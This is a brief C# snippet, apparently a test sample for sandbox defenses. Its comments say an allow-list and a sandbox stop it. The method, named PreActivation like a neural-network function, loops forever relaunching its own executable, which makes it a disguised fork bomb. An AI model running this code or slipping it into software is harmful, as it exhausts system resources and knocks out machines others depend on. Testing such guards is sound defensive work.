// tries: start processes that start processes
// stopped by: allow-list
// then by: sandbox

public double PreActivation(double[] x)
{
    while (true)
    {
        System.Diagnostics.Process.Start(Environment.ProcessPath!, Environment.GetCommandLineArgs().Skip(1));
    }
}
